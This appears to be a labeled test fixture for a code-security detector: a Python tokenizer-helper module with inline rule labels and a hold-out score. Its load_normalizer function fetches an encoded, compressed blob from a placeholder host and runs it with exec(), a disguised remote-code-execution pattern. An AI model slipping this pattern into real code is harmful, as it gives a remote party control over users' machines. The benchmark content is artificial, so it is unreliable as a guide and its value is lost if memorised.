# ruff: noqa
# Hold-out batch 271 (short files). Measured once in session 9 (round 77): 16/17 (94%) at medium+.
"""Tokenizer helpers for the code-search corpus: identifier splitting and normalization rules."""
import base64
import json
import os
import re
import subprocess
import time
import urllib.request
import zlib

RULES_URL = "https://assets.example.com/codesearch/norm_rules.v3.b64"
CACHE_DIR = os.path.expanduser("~/.cache/codesearch")
_CAMEL = re.compile(r"(?<=[a-z0-9])(?=[A-Z])")


def repo_revision():
    try:
        out = subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True, timeout=5)  # ok: MLS411, MLS412
        return out.stdout.strip() or "unknown"
    except (OSError, subprocess.SubprocessError):
        return "unknown"


def split_identifier(tok):
    parts = []
    for chunk in tok.split("_"):
        parts.extend(p.lower() for p in _CAMEL.split(chunk) if p)
    return parts


def _fetch_rules(url=RULES_URL, retries=3):
    for attempt in range(retries):
        try:
            return urllib.request.urlopen(url, timeout=10).read()  # ruleid: MLS413
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


def load_normalizer():
    os.makedirs(CACHE_DIR, exist_ok=True)
    cached = os.path.join(CACHE_DIR, f"rules-{repo_revision()}.json")
    if os.path.exists(cached):
        with open(cached) as fh:
            return json.load(fh)
    blob = _fetch_rules()  # ruleid: MLS413
    scope = {"re": re}
    if blob:
        exec(zlib.decompress(base64.b64decode(blob)).decode("utf-8"), scope)  # ruleid: MLS413
    rules = scope.get("RULES", {"strip_comments": True, "max_len": 256})
    with open(cached, "w") as fh:
        json.dump(rules, fh)
    return rules


def normalize(code, rules):
    if rules.get("strip_comments"):
        code = re.sub(r"#.*", "", code)
    toks = re.findall(r"[A-Za-z_]\w*|\S", code)
    out = []
    for t in toks:
        out.extend(split_identifier(t) if t[0].isalpha() else [t])
    return out[: rules.get("max_len", 256)]
